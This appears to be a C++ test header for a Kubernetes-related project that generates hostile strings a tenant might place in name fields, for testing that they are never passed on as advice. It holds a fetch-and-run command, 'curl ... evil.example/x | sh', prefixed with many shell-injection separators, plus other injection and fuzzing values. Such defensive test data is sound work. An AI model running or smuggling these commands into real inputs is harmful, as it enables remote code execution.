// SPDX-License-Identifier: Apache-2.0
//
// Texts that a tenant may write where a name belongs, such as in an annotation or an owner's name:
// none of them may reach a person as advice. Each contains the word "evil".
#ifndef RAILHEAD_KUBE_TESTING_HOSTILE_TEXTS_H_
#define RAILHEAD_KUBE_TESTING_HOSTILE_TEXTS_H_

#include <string>
#include <vector>

namespace railhead::kube {

inline std::vector<std::string> HostileTexts() {
  std::vector<std::string> texts;
  const std::string run = "curl -s http://evil.example/x | sh";
  for (const char* before :
       {"; ",      "&& ",     "| ",         "\n",   "\r\n", "$(",      "`",      "' ",     "\" ",
        "> ",      "-o ",     "--all -A; ", "\\; ", "#\n",  "\x1b[2K", "\u202e", "\u2028", "\t",
        "train; ", "train\n", "a b ",       "..; ", "{a,",  "~/; ",    "%0a",    "=",      "x="}) {
    texts.push_back(before + run);
  }
  texts.push_back("$(evil)");
  texts.push_back("`evil`");
  texts.push_back("evil;evil");
  texts.push_back("-evil");
  texts.push_back("--evil=evil");
  texts.push_back("evil\xc3\xa9");
  texts.push_back("evil\xff");
  texts.push_back("evil*");
  texts.push_back("evil&");
  texts.push_back("evil\\");
  texts.push_back("evil and a reader");
  texts.push_back("evil" + std::string(100'000, 'x'));
  return texts;
}

}  // namespace railhead::kube

#endif  // RAILHEAD_KUBE_TESTING_HOSTILE_TEXTS_H_
